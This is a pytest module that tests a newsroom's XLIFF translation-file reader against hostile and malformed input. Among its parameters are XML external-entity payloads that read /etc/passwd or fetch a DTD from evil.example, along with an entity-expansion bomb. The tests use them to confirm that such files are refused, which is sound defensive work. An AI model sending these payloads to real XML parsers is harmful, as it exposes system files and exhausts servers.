"""XLIFF that comes back, also from those who mean harm."""

from __future__ import annotations

import pytest

from articles.legal.exchange.rows import MOST_ROWS
from articles.legal.exchange.xliff_files import write_1, write_2
from articles.legal.exchange.xliff_reading import read
from newsroom.exchange.refusing import FileIsRefused
from newsroom.exchange.xliff import MOST_ELEMENTS, NAMESPACE_1, NAMESPACE_2
from tests.articles.legal.exchange.travellers import row

ONE, TWO = write_1([row()]).decode(), write_2(row()).decode()
BOMB = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
BOTH = pytest.mark.parametrize("document", [ONE, TWO], ids=["1.2", "2.0"])


def with_prolog(document: str, prolog: str) -> str:
    return document.replace("?>", f"?>{prolog}", 1)


@BOTH
@pytest.mark.parametrize(
    "prolog",
    [
        "<!DOCTYPE xliff>",
        '<!DOCTYPE xliff SYSTEM "http://evil.example/x.dtd">',
        '<!DOCTYPE xliff [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE xliff [<!ENTITY % e SYSTEM "http://evil.example/"> %e;]>',
        BOMB,
    ],
)
def test_any_document_type_is_refused(document: str, prolog: str) -> None:
    with pytest.raises(FileIsRefused, match="document type or entities"):
        read(with_prolog(document, prolog).replace("Подробнее", "&b;" if prolog == BOMB else "x"))


@BOTH
def test_an_encoding_other_than_utf_8_is_named(document: str) -> None:
    with pytest.raises(FileIsRefused, match="says that it is in windows-1251"):
        read(document.replace("UTF-8", "windows-1251", 1))


@BOTH
def test_a_broken_document_is_refused(document: str) -> None:
    for broken in (
        document[:-10],
        document.replace("</file>", ""),
        document.replace("<target", "<tagret"),
        "<",
        "<xliff/>",
    ):
        with pytest.raises(FileIsRefused):
            read(broken)


@pytest.mark.parametrize(
    "document",
    [
        "<html><body/></html>",
        '<xliff version="1.2"><file/></xliff>',
        '<xliff version="1.1" xmlns="urn:oasis:names:tc:xliff:document:1.1"><file/></xliff>',
        '<xliff version="2.1" xmlns="urn:oasis:names:tc:xliff:document:2.2"><file/></xliff>',
    ],
)
def test_other_xml_is_refused(document: str) -> None:
    with pytest.raises(FileIsRefused, match=r"neither XLIFF 1\.2 nor XLIFF 2\.0"):
        read(document)


@pytest.mark.parametrize("namespace", [NAMESPACE_1, NAMESPACE_2])
def test_an_empty_one_is_refused(namespace: str) -> None:
    with pytest.raises(FileIsRefused, match="no file element"):
        read(f'<xliff xmlns="{namespace}"/>')


@pytest.mark.parametrize(("namespace", "version"), [(NAMESPACE_1, "2.0"), (NAMESPACE_2, "1.2")])
def test_a_version_against_the_namespace_is_refused(namespace: str, version: str) -> None:
    with pytest.raises(FileIsRefused, match="The XLIFF cannot be read"):
        read(f'<xliff version="{version}" xmlns="{namespace}"><file/></xliff>')


def test_too_many_files_are_refused() -> None:
    with pytest.raises(FileIsRefused, match=f"more than {MOST_ROWS} rows"):
        read(f'<xliff xmlns="{NAMESPACE_1}">{"<file/>" * (MOST_ROWS + 1)}</xliff>')


def test_too_many_elements_are_refused() -> None:
    with pytest.raises(FileIsRefused, match=f"more than {MOST_ELEMENTS} elements"):
        read(f'<xliff xmlns="{NAMESPACE_1}"><file>{"<note/>" * MOST_ELEMENTS}</file></xliff>')


def test_elements_nested_without_end_are_refused() -> None:
    depth = 20_000
    with pytest.raises(FileIsRefused, match="nested too deep"):
        read(f'<xliff xmlns="{NAMESPACE_1}"><file>{"<group>" * depth}{"</group>" * depth}</file></xliff>')


def test_units_outside_any_file_are_nothing() -> None:
    stray = (
        f'<xliff version="1.2" xmlns="{NAMESPACE_1}"><trans-unit id="body"/><file original="k"><body/></file></xliff>'
    )
    (returned,) = read(stray)
    assert (returned.notice, returned.language, returned.number) == ("k", "", None)
    assert returned.problem == "The unit “heading” is missing."


@BOTH
def test_a_unit_that_stands_twice_is_named(document: str) -> None:
    (returned,) = read(document.replace('id="link_label"', 'id="body"'))
    assert returned.problem.startswith("The unit “body” stands there twice")


def test_a_unit_that_was_cut_into_segments_is_named() -> None:
    cut = TWO.replace("<segment", "<segment><source>a</source><target>b</target></segment><segment", 1)
    (returned,) = read(cut)
    assert returned.problem.startswith("The unit “heading” stands there twice, or is cut into segments")


@BOTH
def test_codes_in_a_target_are_refused_and_marks_are_read_through(document: str) -> None:
    (coded,) = read(document.replace("Заголовок", 'Заго<x id="1"/>ловок'))
    assert coded.problem.startswith("The target of “heading” has XLIFF codes")
    (marked,) = read(document.replace("Заголовок", 'Заго<mrk id="1" mtype="seg">ло<!-- x -->вок</mrk>'))
    assert (marked.problem, marked.words.heading) == ("", "Заголовок")


@BOTH
def test_a_language_is_known_by_its_tag_in_any_case_and_else_kept_as_it_is(document: str) -> None:
    for tag, code in (("SR-LATN", "sr-latn"), ("fa-AF", "fa-af"), ("xx", "xx"), ("ru-RU", "ru-RU"), ("", "")):
        changed = document.replace('target-language="ru"', f'target-language="{tag}"').replace(
            'trgLang="ru"', f'trgLang="{tag}"'
        )
        assert [returned.language for returned in read(changed)] == [code]


@BOTH
def test_lost_notes_leave_no_digest(document: str) -> None:
    lost = document.replace("<note ", "<other ").replace("</note>", "</other>")
    (returned,) = read(lost)
    assert (returned.source_digest, returned.number, returned.notice) == ("", None, "undesirable")
